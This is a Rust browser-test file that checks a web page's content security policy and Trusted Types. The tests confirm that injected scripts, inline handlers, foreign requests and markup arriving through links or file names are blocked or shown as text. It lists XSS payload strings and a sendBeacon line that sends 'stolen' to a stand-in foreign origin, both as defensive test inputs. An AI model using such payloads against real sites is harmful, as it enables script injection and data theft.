//! What SECURITY.md promises: the content security policy stops what breaks it, no text becomes markup or a script
//! but through the page's policy of Trusted Types, and what comes from a link, a file or the server is text.

use serde_json::json;

use super::browser::with_page;
use super::page::Page;
use super::server;

/// What a page under attack would do, and the directive that stops it. `FOREIGN` is an origin that is
/// not the page's own.
const VIOLATIONS: [(&str, &str); 12] = [
    ("script-src-elem", "add('script', { textContent: 'window.pwned = 1' })"),
    (
        "script-src-attr",
        "document.body.insertAdjacentHTML('beforeend', '<b onclick=\"window.pwned = 2\"></b>')",
    ),
    ("script-src", "setTimeout('window.pwned = 3')"),
    ("script-src-elem", "add('script', { src: FOREIGN + 'script.js' })"),
    ("worker-src", "new Worker(URL.createObjectURL(new Blob(['postMessage(1)'])))"),
    ("connect-src", "fetch(FOREIGN).catch(() => {})"),
    ("connect-src", "navigator.sendBeacon(FOREIGN, 'stolen')"),
    ("img-src", "add('img', { src: FOREIGN + 'picture.png' })"),
    ("style-src-attr", "document.body.insertAdjacentHTML('beforeend', '<i style=\"color: red\"></i>')"),
    ("frame-src", "add('iframe', { src: FOREIGN })"),
    ("base-uri", "add('base', { href: FOREIGN })"),
    ("form-action", "add('form', { action: FOREIGN }).submit()"),
];

const MARKUP: &str = "<img src=x onerror=pwned=9>";

/// What a page under attack would hand to the browser as markup, as the address of a script, or as a script.
const TYPED: [(&str, &str); 15] = [
    ("TrustedHTML", "document.body.insertAdjacentHTML('beforeend', '<img src=x onerror=pwned=1>')"),
    ("TrustedHTML", "document.body.insertAdjacentHTML('beforeend', '<b onclick=\"window.pwned = 2\"></b>')"),
    ("TrustedHTML", "document.body.insertAdjacentHTML('beforeend', '<a href=\"javascript:pwned=3\">x</a>')"),
    ("TrustedHTML", "document.body.insertAdjacentHTML('beforeend', '<i style=\"color: red\"></i>')"),
    (
        "TrustedHTML",
        "document.createElement('template').innerHTML = '<textarea><b title=\"</textarea><img>\">'",
    ),
    ("TrustedHTML", "add('iframe', { srcdoc: '<script>parent.pwned = 4</script>' })"),
    ("TrustedHTML", "new DOMParser().parseFromString('<script>1</script>', 'text/html')"),
    ("TrustedScriptURL", "add('script', { src: FOREIGN + 'script.js' })"),
    ("TrustedScriptURL", "new Worker(URL.createObjectURL(new Blob(['postMessage(1)'])))"),
    ("TrustedScriptURL", "new Worker('./start.js')"),
    ("TrustedScriptURL", "new Worker('./engines/../start.js')"),
    ("TrustedScript", "add('script', { textContent: 'window.pwned = 5' })"),
    ("TrustedScript", "setTimeout('window.pwned = 6')"),
    ("TrustedScript", "document.body.setAttribute('onclick', 'window.pwned = 7')"),
    ("", "trustedTypes.createPolicy('another', { createHTML: text => text })"),
];

/// The console is full of what was stopped, and the attempts count as requests.
async fn forget(page: &Page) {
    page.driver.browser_log().await.expect("the console");
    page.script("performance.clearResourceTimings()", vec![]).await;
}

const TOOLS: &str = "window.stopped = [];
    addEventListener('securitypolicyviolation', e => stopped.push(e.effectiveDirective));
    window.FOREIGN = 'http://localhost:9/';
    window.add = (tag, what) => document.body.appendChild(Object.assign(document.createElement(tag), what))";

#[tokio::test]
async fn what_breaks_the_policy_is_stopped() {
    with_page(|page| async move {
        // Trusted Types would stop half of it before.
        page.open_at(&format!("{}/harmed/", server::origin()), "#v=1&data=ring8&seed=1").await;
        page.script(TOOLS, vec![]).await;
        for (directive, attack) in VIOLATIONS {
            page.script(&format!("stopped.length = 0; {attack}"), vec![]).await;
            let stopped = format!("return stopped.includes('{directive}')");
            page.until(&format!("{directive} stops {attack}"), 5, &stopped).await;
        }
        let click = "document.querySelector('b[onclick]')?.click(); return window.pwned ?? null";
        assert!(page.script(click, vec![]).await.is_null(), "a script of the attacker has run");
        forget(&page).await;
    })
    .await;
}

#[tokio::test]
async fn no_text_becomes_markup_or_a_script() {
    with_page(|page| async move {
        page.open("#v=1&data=ring8&seed=1").await;
        page.script(TOOLS, vec![]).await;
        for (kind, attack) in TYPED {
            let thrown =
                format!("try {{ {attack}; return 'done' }} catch (error) {{ return String(error) }}");
            let thrown = page.script(&thrown, vec![]).await;
            let said = thrown.as_str().unwrap_or_default();
            assert!(said.starts_with("TypeError") && said.contains(kind), "{attack}: {said}");
        }
        assert!(page.script("return window.pwned ?? null", vec![]).await.is_null());
        assert_eq!(page.script("return trustedTypes.defaultPolicy.name", vec![]).await, "default");
        forget(&page).await;
    })
    .await;
}

#[tokio::test]
async fn evidence_with_markup_is_text() {
    with_page(|page| async move {
        page.open_at(&format!("{}/harmed/", server::origin()), "#v=1&data=ring8&seed=1").await;
        page.turn_to("board").await;
        page.script("el('first-board').querySelector('summary').click()", vec![]).await;
        is_text(&page, "evidence-row").await;
        forget(&page).await;
    })
    .await;
}

/// That [`MARKUP`] is on the page as text, and only as that.
async fn is_text(page: &Page, id: &str) {
    let there = format!("return !!el('{id}')?.textContent.includes('<img')");
    page.until("a message with the markup as text", 15, &there).await;
    let made = "return document.querySelectorAll('img').length > 0 || 'pwned' in window";
    assert_eq!(page.script(made, vec![]).await, false, "the markup came alive");
}

#[tokio::test]
async fn a_link_with_markup_is_text() {
    with_page(|page| async move {
        let link = format!("#v=1&data=ring8&seed=1&loss={}", MARKUP.replace(' ', "%20"));
        page.open(&link).await;
        is_text(&page, "message").await;
    })
    .await;
}

#[tokio::test]
async fn a_file_named_like_markup_is_text() {
    with_page(|page| async move {
        page.driver.goto("about:blank").await.expect("a blank page");
        page.driver.goto(format!("{}/#v=1&data=images&seed=1", server::origin())).await.expect("the page");
        page.until("a way to choose files", 30, "return !!document.querySelector('input[type=file]')").await;
        let choose =
            "const chosen = new DataTransfer(); chosen.items.add(new File(['no images'], arguments[0]));
            const input = document.querySelector('input[type=file]'); input.files = chosen.files;
            input.dispatchEvent(new Event('change', { bubbles: true }))";
        page.script(choose, vec![json!(MARKUP)]).await;
        is_text(&page, "own-failed").await;
    })
    .await;
}
